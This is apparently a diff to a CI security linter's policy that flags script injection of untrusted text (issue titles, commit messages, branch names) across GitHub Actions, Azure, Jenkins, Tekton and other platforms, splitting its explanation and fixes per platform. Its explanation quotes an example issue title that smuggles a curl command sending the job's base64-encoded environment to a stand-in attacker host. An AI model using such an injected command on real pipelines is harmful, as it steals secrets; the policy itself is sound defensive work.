@@ -38,8 +38,46 @@ export const secretInInjectableStep = definePolicy({
   meta: {
     id: "untrusted/secret-in-injectable-step",
     title: "Script that takes outsiders' text for code",
-    why: 'The platform puts the text of `${{ … }}` (on CircleCI `<< … >>`) into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. Azure does so with `$(Build.SourceVersionMessage)`, and Groovy on Jenkins with `sh "… ${env.CHANGE_TITLE}"`. Azure does so with `$(Build.SourceVersionMessage)`, Tekton with `$(params.title)` and `{{ source_branch }}`, Cloud Build with `$BRANCH_NAME`, Buildkite with `$BUILDKITE_MESSAGE` while the pipeline is uploaded, Drone and Woodpecker with `${DRONE_COMMIT_MESSAGE}` and `${CI_COMMIT_MESSAGE}` before they read the file. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither; or the text comes with an event that does not start the workflow as yet.',
-    fix: 'Hand the text over in a variable and quote it: `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`; on CircleCI `environment:` of the `run:` does the same, and branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already. On Buildkite write `$$BUILDKITE_MESSAGE`, on Drone and Woodpecker `$CI_COMMIT_MESSAGE` or `$${…}`, which the shell reads as a variable. On Azure map it (`env: { MESSAGE: $(Build.SourceVersionMessage) }`), and give a parameter its `values:`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`. On Jenkins write the script in single quotes, `sh \'echo "$CHANGE_TITLE"\'`, and put a parameter into the environment first (`withEnv`). Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`. On Tekton give the parameter to a variable of the step (`env: [{ name: TITLE, value: $(params.title) }]`), on Cloud Build the substitution (`env: [BRANCH=$BRANCH_NAME]`), and quote it in the script.',
+    why: 'Text that becomes part of a script before the shell reads it is run as a part of that script. An issue with the title `"; curl https://evil.example/$(env | base64); "` then is a command, with each secret of the job. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither; or the text comes with an event that does not start the workflow as yet.',
+    fix: 'Hand the text over in a variable and quote it in the script: `echo "$TITLE"`. Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`.',
+    on: {
+      "github-actions": {
+        why: "`${{ … }}` becomes part of the script in this way.",
+        fix: 'Write `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`.',
+      },
+      "azure-pipelines": {
+        why: "`$(Build.SourceVersionMessage)` and `${{ parameters.name }}` become part of the script in this way.",
+        fix: "Map it, `env: { MESSAGE: $(Build.SourceVersionMessage) }`, and give a parameter its `values:`.",
+      },
+      buildkite: {
+        why: "`$BUILDKITE_MESSAGE` becomes part of the script in this way, while the pipeline is uploaded.",
+        fix: "Write `$$BUILDKITE_MESSAGE`, which only the shell of the job fills in.",
+      },
+      circleci: {
+        why: "`<< … >>` becomes part of the script in this way.",
+        fix: "Use `environment:` of the `run:`; branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already.",
+      },
+      "cloud-build": {
+        why: "`$BRANCH_NAME` becomes part of the script in this way.",
+        fix: "Give the substitution to a variable of the step, `env: [BRANCH=$BRANCH_NAME]`, and write `$$BRANCH`.",
+      },
+      drone: {
+        why: "`${DRONE_COMMIT_MESSAGE}` becomes part of the script in this way, before the file is read.",
+        fix: "Write `$DRONE_COMMIT_MESSAGE` or `$${…}`, which only the shell fills in.",
+      },
+      woodpecker: {
+        why: "`${CI_COMMIT_MESSAGE}` becomes part of the script in this way, before the file is read.",
+        fix: "Write `$CI_COMMIT_MESSAGE` or `$${…}`, which only the shell fills in.",
+      },
+      jenkins: {
+        why: 'Groovy fills in `sh "… ${env.CHANGE_TITLE}"`.',
+        fix: "Write the script in single quotes, `sh 'echo \"$CHANGE_TITLE\"'`, and put a parameter into the environment first (`withEnv`).",
+      },
+      tekton: {
+        why: "`$(params.title)` and `{{ source_branch }}` become part of the script in this way.",
+        fix: "Give the parameter to a variable of the step: `env: [{ name: TITLE, value: $(params.title) }]`.",
+      },
+    },
     severity: "critical",
     confidence: "high",
     preset: "recommended",
